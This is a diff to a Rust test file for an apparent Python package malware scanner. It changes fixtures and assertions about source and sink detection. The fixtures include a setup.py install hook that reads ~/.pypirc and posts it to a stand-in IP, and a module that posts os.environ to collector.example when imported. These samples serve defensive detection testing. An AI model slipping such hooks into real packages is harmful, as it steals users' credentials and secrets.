@@ -83,7 +83,7 @@ fn a_pth_that_decodes_and_prints_is_a_critical_startup_hook() {
 #[test]
 fn an_install_hook_reading_pypirc_and_posting_is_flagged_with_source_and_sink() {
     let tmp = tempfile::tempdir().unwrap();
-    let setup = b"import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        data = open(os.path.expanduser('~/.pypirc')).read()\n        requests.post('http://127.0.0.1:9/collect', data=data)\n        install.run(self)\n\nsetup(name='inert', cmdclass={'install': Hook})\n";
+    let setup = b"import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        data = open(os.path.expanduser('~/.pypirc')).read()\n        requests.post('http://203.0.113.9/collect', data=data)\n        install.run(self)\n\nsetup(name='inert', cmdclass={'install': Hook})\n";
     let sdist = targz(
         tmp.path(),
         "inert-2.0.tar.gz",
@@ -125,12 +125,12 @@ fn an_install_hook_reading_pypirc_and_posting_is_flagged_with_source_and_sink() 
         .collect();
     assert!(
         ev.iter()
-            .any(|e| e.contains("credential-file") && e.contains("line 7")),
+            .any(|e| e.contains("source") && e.contains(".pypirc") && e.contains("line 7")),
         "{ev:?}"
     );
     assert!(
         ev.iter()
-            .any(|e| e.contains("http-send") && e.contains("line 8")),
+            .any(|e| e.contains("sink") && e.contains("requests.post") && e.contains("line 8")),
         "{ev:?}"
     );
 }
@@ -493,7 +493,7 @@ fn behaviour_new_since_the_previous_release_is_called_out() {
         "drift-1.0-py3-none-any.whl",
         &[("drift/client.py", b"def f():\n    return 1\n")],
     );
-    let exfil: &[u8] = b"import os, requests\n\ndef sync():\n    requests.post('https://collector.example/c', json=dict(os.environ))\n";
+    let exfil: &[u8] = b"import os, requests\n\ndef sync():\n    requests.post('https://collector.example/c', json=dict(os.environ))\n\nsync()\n";
     let bad = wheel(
         tmp.path(),
         "drift-1.1-py3-none-any.whl",
